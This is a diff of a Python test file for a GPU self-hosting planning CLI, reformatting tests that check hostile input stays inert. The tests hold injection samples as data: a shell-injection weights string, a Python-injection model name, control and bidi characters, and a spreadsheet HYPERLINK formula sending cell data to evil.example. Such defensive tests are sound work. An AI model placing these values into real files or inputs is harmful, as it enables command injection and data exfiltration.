@@ -33,8 +33,26 @@ HOSTILE = (
 )
 FLAT = " ".join(HOSTILE.splitlines())  # what a one-line slot shows: every line break a space
 #: The only elements the documents themselves produce.
-MARKDOWN_TAGS = {"h1", "h2", "h3", "p", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td",
-                 "code", "pre", "em", "br", "img"}  # fmt: skip
+MARKDOWN_TAGS = {
+    "h1",
+    "h2",
+    "h3",
+    "p",
+    "ul",
+    "ol",
+    "li",
+    "table",
+    "thead",
+    "tbody",
+    "tr",
+    "th",
+    "td",
+    "code",
+    "pre",
+    "em",
+    "br",
+    "img",
+}
 
 
 class Elements(HTMLParser):
@@ -162,7 +180,10 @@ def hostile_spec() -> Any:
 
     spec = llama_awq_2xa100()
     return dataclasses.replace(
-        spec, model_name=f"Evil {HOSTILE}", weights=f"org/x'; touch pwned; echo '{HOSTILE}", gpu=f"gpu {HOSTILE}"
+        spec,
+        model_name=f"Evil {HOSTILE}",
+        weights=f"org/x'; touch pwned; echo '{HOSTILE}",
+        gpu=f"gpu {HOSTILE}",
     )
 
 
@@ -204,8 +225,13 @@ def test_kit_scripts_and_configs_keep_catalog_text_in_comments_and_quotes(
         yaml.safe_load(text)  # parses: no comment line broke out
     evil_name = dataclasses.replace(hostile_spec, served_model_name='m"""; import os #')
     tree = ast.parse(client_py(evil_name, settings))
-    models = [kw.value for node in ast.walk(tree) if isinstance(node, ast.Call) for kw in node.keywords
-              if kw.arg == "model"]  # fmt: skip
+    models = [
+        kw.value
+        for node in ast.walk(tree)
+        if isinstance(node, ast.Call)
+        for kw in node.keywords
+        if kw.arg == "model"
+    ]
     assert [ast.literal_eval(m) for m in models] == ['m"""; import os #']
     assert not [n for n in ast.walk(tree) if isinstance(n, ast.Import) and n.names[0].name == "os"][1:]
 
@@ -220,8 +246,17 @@ def test_router_config_keeps_workload_names_in_their_comment_and_value(
     workloads = tmp_path / "w.yaml"
     workloads.write_text(
         yaml.safe_dump(
-            {"workloads": [{"name": name, "requests_per_s": 2, "input_tokens": 1000, "output_tokens": 300,
-                            "model": "llama-3.1-8b"}]}  # fmt: skip
+            {
+                "workloads": [
+                    {
+                        "name": name,
+                        "requests_per_s": 2,
+                        "input_tokens": 1000,
+                        "output_tokens": 300,
+                        "model": "llama-3.1-8b",
+                    }
+                ]
+            }
         ),
         encoding="utf-8",
     )
@@ -236,8 +271,13 @@ def test_router_config_keeps_workload_names_in_their_comment_and_value(
 
 @pytest.mark.parametrize(
     ("text", "code"),
-    [("\x1b[31mRED\x1b]0;title\x07", "U+001B"), ("evil\u202etxt.exe", "U+202E"), ("a\rb", "U+000D"),
-     ("nul\x00", "U+0000"), ("c1\x9b31m", "U+009B")],  # fmt: skip
+    [
+        ("\x1b[31mRED\x1b]0;title\x07", "U+001B"),
+        ("evil\u202etxt.exe", "U+202E"),
+        ("a\rb", "U+000D"),
+        ("nul\x00", "U+0000"),
+        ("c1\x9b31m", "U+009B"),
+    ],
 )
 def test_text_with_control_characters_is_refused_where_it_is_read(
     cli: Callable[..., Result], tmp_path: Path, text: str, code: str
@@ -254,8 +294,20 @@ def test_text_with_control_characters_is_refused_where_it_is_read(
 
     workloads = tmp_path / "w.yaml"
     workloads.write_text(
-        yaml.safe_dump({"workloads": [{"name": "chat", "description": text, "requests_per_s": 1,
-                                       "input_tokens": 100, "output_tokens": 10, "model": "llama-3.1-8b"}]}),  # fmt: skip
+        yaml.safe_dump(
+            {
+                "workloads": [
+                    {
+                        "name": "chat",
+                        "description": text,
+                        "requests_per_s": 1,
+                        "input_tokens": 100,
+                        "output_tokens": 10,
+                        "model": "llama-3.1-8b",
+                    }
+                ]
+            }
+        ),
         encoding="utf-8",
     )
     result = cli("plan", str(workloads))
@@ -274,13 +326,36 @@ def test_csv_cells_that_look_like_formulas_stay_text(cli: Callable[..., Result],
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     overlay = tmp_path / "offer.yaml"
     overlay.write_text(
-        yaml.safe_dump({"rental_offers": [{"id": "formula-l40s", "provider": formula, "gpu": "l40s-48gb",
-                                           "usd_per_gpu_hour": 0.01, "pricing": "on-demand",
-                                           "source": "@SUM(1+1)", "as_of": "2025-06-01"}]}),  # fmt: skip
+        yaml.safe_dump(
+            {
+                "rental_offers": [
+                    {
+                        "id": "formula-l40s",
+                        "provider": formula,
+                        "gpu": "l40s-48gb",
+                        "usd_per_gpu_hour": 0.01,
+                        "pricing": "on-demand",
+                        "source": "@SUM(1+1)",
+                        "as_of": "2025-06-01",
+                    }
+                ]
+            }
+        ),
         encoding="utf-8",
     )
-    result = cli("crossover", "--rps", "5", "-m", "llama-3.1-8b", "-g", "l40s", "--catalog", str(overlay),
-                 "--format", "csv")  # fmt: skip
+    result = cli(
+        "crossover",
+        "--rps",
+        "5",
+        "-m",
+        "llama-3.1-8b",
+        "-g",
+        "l40s",
+        "--catalog",
+        str(overlay),
+        "--format",
+        "csv",
+    )
     assert result.exit_code == 0, result.output
     rows = list(csv.DictReader(io.StringIO(result.stdout)))
     assert rows and rows[0]["provider"] == "'" + formula
@@ -292,4 +367,11 @@ def test_csv_text_leaves_numbers_and_plain_text_alone() -> None:
     from selfhost.escape import csv_text
 
     assert [csv_text(t) for t in ("-4330", "+1.5", "RunPod", "a=b", "-x", "@x", "\tx")] == [
-        "-4330", "+1.5", "RunPod", "a=b", "'-x", "'@x", "'\tx"]  # fmt: skip
+        "-4330",
+        "+1.5",
+        "RunPod",
+        "a=b",
+        "'-x",
+        "'@x",
+        "'\tx",
+    ]
